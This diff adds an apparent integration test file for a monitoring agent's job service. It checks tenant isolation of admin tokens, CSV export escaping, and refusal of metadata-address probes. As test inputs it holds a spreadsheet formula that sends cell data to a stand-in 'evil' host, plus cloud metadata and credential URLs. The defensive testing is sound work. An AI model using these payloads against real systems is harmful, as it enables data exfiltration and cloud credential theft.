@@ -1,0 +1,133 @@
+/**
+ * What jobs may reach, end to end: a tenant-bound admin token is held to its tenant (exports of its
+ * own rows, nothing that acts on every tenant), CSV exports cannot carry spreadsheet formulas, and
+ * http-check refuses link-local and cloud metadata addresses unless the config allows them.
+ */
+import { readFileSync } from 'node:fs';
+import { join } from 'node:path';
+import type { JsonObject } from '@bufbuild/protobuf';
+import { status } from '@grpc/grpc-js';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { connect } from '../../src/cli/client.js';
+import { EventService, Severity } from '../../src/gen/heimdall/v1/events_pb.js';
+import { JobService, JobStatus, type Job } from '../../src/gen/heimdall/v1/jobs_pb.js';
+import { SecurityService } from '../../src/gen/heimdall/v1/security_pb.js';
+import { SystemService } from '../../src/gen/heimdall/v1/system_pb.js';
+import { TraceService } from '../../src/gen/opentelemetry/proto/collector/trace/v1/trace_service_pb.js';
+import { startTestAgent, type TestAgent } from '../support/agent.js';
+import { traceRequest } from '../support/otlp-requests.js';
+import { tempDir } from '../support/temp.js';
+import { refused, until } from '../support/wait.js';
+
+const TOKENS = {
+  adminA: 'admin-token-tenant-a-00001',
+  admin: 'admin-token-all-tenants-01',
+  ingestA: 'ingest-token-tenant-a-0001',
+  ingestB: 'ingest-token-tenant-b-0001',
+};
+
+describe('job guards', () => {
+  const exports = tempDir();
+  let t: TestAgent;
+  const client = (token: string) => connect({ addr: t.grpcAddress, token });
+  /** Submits a job and waits for its end. */
+  const finished = async (token: string, kind: string, params: JsonObject): Promise<Job> => {
+    const { job } = await client(token).unary(JobService.method.submitJob, { kind, params });
+    return until(async () => {
+      const j = (await client(token).unary(JobService.method.getJob, { id: job?.id ?? '' })).job;
+      return j && j.status !== JobStatus.PENDING && j.status !== JobStatus.RUNNING ? j : undefined;
+    }, 30_000, `the ${kind} job`);
+  };
+
+  beforeAll(async () => {
+    t = await startTestAgent({
+      jobs: { export_dir: exports.path, system_check: { enabled: false }, http_check: { allowed_networks: ['169.254.169.254/32'] } },
+      auth: {
+        enabled: true,
+        tokens: [
+          { name: 'admin-a', token: TOKENS.adminA, scopes: ['admin'], tenant: 'a' },
+          { name: 'admin', token: TOKENS.admin, scopes: ['admin'] },
+          { name: 'ingest-a', token: TOKENS.ingestA, scopes: ['ingest'], tenant: 'a' },
+          { name: 'ingest-b', token: TOKENS.ingestB, scopes: ['ingest'], tenant: 'b' },
+        ],
+      },
+    });
+    const events = (n: number, source: string) => Array.from({ length: n }, (_, i) => ({ eventType: 'guard.test', source, severity: Severity.INFO, message: `${source} ${i}` }));
+    await client(TOKENS.ingestA).unary(EventService.method.writeEvents, { events: events(3, 'src-a') });
+    await client(TOKENS.ingestB).unary(EventService.method.writeEvents, { events: events(4, 'src-b') });
+    await client(TOKENS.ingestA).unary(TraceService.method.export, traceRequest('svc-a', 2));
+    await client(TOKENS.ingestB).unary(TraceService.method.export, traceRequest('svc-b', 5));
+  });
+  afterAll(async () => {
+    await t.stop();
+    exports.cleanup();
+  });
+
+  it("holds a tenant-bound admin token's exports to its tenant's rows", async () => {
+    const events = await finished(TOKENS.adminA, 'export', { source: 'events', file: 'a-events.jsonl', since: '1h' });
+    expect(events.status).toBe(JobStatus.SUCCEEDED);
+    expect(events.params?.tenant).toBe('a');
+    const rows = readFileSync(join(exports.path, 'a-events.jsonl'), 'utf8').trimEnd().split('\n').map((l) => JSON.parse(l) as { tenant_id: string; source: string });
+    expect(rows.map((r) => r.source).sort()).toEqual(['src-a', 'src-a', 'src-a']);
+    expect(new Set(rows.map((r) => r.tenant_id))).toEqual(new Set(['a']));
+    const spans = await finished(TOKENS.adminA, 'export', { source: 'spans', file: 'a-spans.jsonl', since: '1h' });
+    expect(spans.result?.rows).toBe(2);
+    expect(readFileSync(join(exports.path, 'a-spans.jsonl'), 'utf8')).not.toContain('svc-b');
+    // A token without a tenant exports every tenant, or the one it names.
+    expect((await finished(TOKENS.admin, 'export', { source: 'spans', file: 'all-spans.jsonl', since: '1h' })).result?.rows).toBe(7);
+    expect((await finished(TOKENS.admin, 'export', { source: 'spans', file: 'b-spans.jsonl', since: '1h', tenant: 'b' })).result?.rows).toBe(5);
+  });
+
+  it('refuses a tenant-bound admin token everything that acts on every tenant, and hides other jobs from it', async () => {
+    const a = client(TOKENS.adminA);
+    const denied = async (p: Promise<unknown>, what: RegExp) => {
+      const err = await refused(p);
+      expect(err.code).toBe(status.PERMISSION_DENIED);
+      expect(err.details).toMatch(what);
+    };
+    await denied(a.unary(JobService.method.submitJob, { kind: 'export', params: { source: 'events', tenant: 'b' } }), /^job\.params\.tenant: token "admin-a" is bound to tenant "a"/);
+    for (const kind of ['retention', 'http-check', 'system-check']) {
+      await denied(a.unary(JobService.method.submitJob, { kind, params: { url: 'http://127.0.0.1:9/' } }), new RegExp(`job kind "${kind}" acts on every tenant`));
+    }
+    await denied(a.unary(JobService.method.createScheduledJob, { job: { name: 'x', schedule: '* * * * *', kind: 'export', params: { source: 'events' } } }), /a scheduled job acts on every tenant/);
+    await denied(a.unary(JobService.method.listScheduledJobs, {}), /a scheduled job acts on every tenant/);
+    await denied(a.unary(JobService.method.listJobs, {}), /listing jobs acts on every tenant/);
+    await denied(a.unary(JobService.method.listRuns, {}), /listing runs acts on every tenant/);
+    await denied(a.unary(SystemService.method.getStatus, {}), /token "admin-a" is bound to tenant "a", and this call acts on every tenant/);
+    await denied(a.unary(SecurityService.method.getState, {}), /is bound to tenant "a"/);
+    expect((await fetch(`${t.adminUrl}/status`, { headers: { authorization: `Bearer ${TOKENS.adminA}` } })).status).toBe(403);
+    // Another tenant's (or an untenanted) job does not exist for this token.
+    const other = await finished(TOKENS.admin, 'export', { source: 'events', file: 'other.jsonl', since: '1h' });
+    for (const call of [a.unary(JobService.method.getJob, { id: other.id }), a.unary(JobService.method.cancelJob, { id: other.id })]) {
+      const err = await refused(call);
+      expect(err.code).toBe(status.NOT_FOUND);
+    }
+    // Its own jobs it can follow; the untenanted admin token sees everything.
+    const own = await finished(TOKENS.adminA, 'export', { source: 'events', file: 'own.jsonl', since: '1h' });
+    expect((await a.unary(JobService.method.getJob, { id: own.id })).job?.id).toBe(own.id);
+    expect((await client(TOKENS.admin).unary(JobService.method.getJob, { id: own.id })).job?.params?.tenant).toBe('a');
+  });
+
+  it('neutralises CSV cells that a spreadsheet would run as formulas', async () => {
+    const cells = ['=HYPERLINK("http://evil/?"&A1,"x")', '+SUM(1,2)', '-2+3', '@SUM(1)', '\tTAB', '\rCR', '-5', 'plain'];
+    await client(TOKENS.ingestA).unary(EventService.method.writeEvents, { events: cells.map((message) => ({ eventType: 'csv.test', source: 'csv-src', severity: Severity.INFO, message })) });
+    const job = await finished(TOKENS.admin, 'export', { source: 'events', format: 'csv', file: 'cells.csv', since: '1h', filters: { event_type: 'csv.test' } });
+    expect(job.status).toBe(JobStatus.SUCCEEDED);
+    const text = readFileSync(join(exports.path, 'cells.csv'), 'utf8');
+    for (const expected of ['"\'=HYPERLINK(""http://evil/?""&A1,""x"")"', '"\'+SUM(1,2)"', '"\'-2+3"', '"\'@SUM(1)"', '"\'\tTAB"', '"\'\rCR"', ',-5,', ',plain,', ',csv-src,']) expect(text).toContain(expected);
+    // No line has a cell that starts with a formula character unquoted.
+    expect(text).not.toMatch(/(^|,)[=+@]/m);
+  });
+
+  it('refuses http-check probes of link-local and metadata addresses, unless jobs.http_check.allowed_networks lets them', async () => {
+    for (const url of ['http://169.254.170.2/v2/credentials', 'http://[fd00:ec2::254]/latest/meta-data/', 'http://metadata.google.internal/computeMetadata/v1/']) {
+      const run = await finished(TOKENS.admin, 'http-check', { url, timeout: '2s' });
+      expect(run.status).toBe(JobStatus.FAILED);
+      expect(run.error).toMatch(/refused: .* (link-local or cloud metadata address|cloud metadata service)/);
+    }
+    expect(await t.agent.metrics.getSingleMetricAsString('heimdall_http_check_refused_total')).toMatch(/heimdall_http_check_refused_total\{job="on-demand"\} 3$/m);
+    // Allowed in the config: the probe is attempted (whatever answers, or not, it is not refused).
+    const allowed = await finished(TOKENS.admin, 'http-check', { url: 'http://169.254.169.254/latest/meta-data/', timeout: '300ms' });
+    expect(allowed.error).not.toContain('refused');
+  });
+});
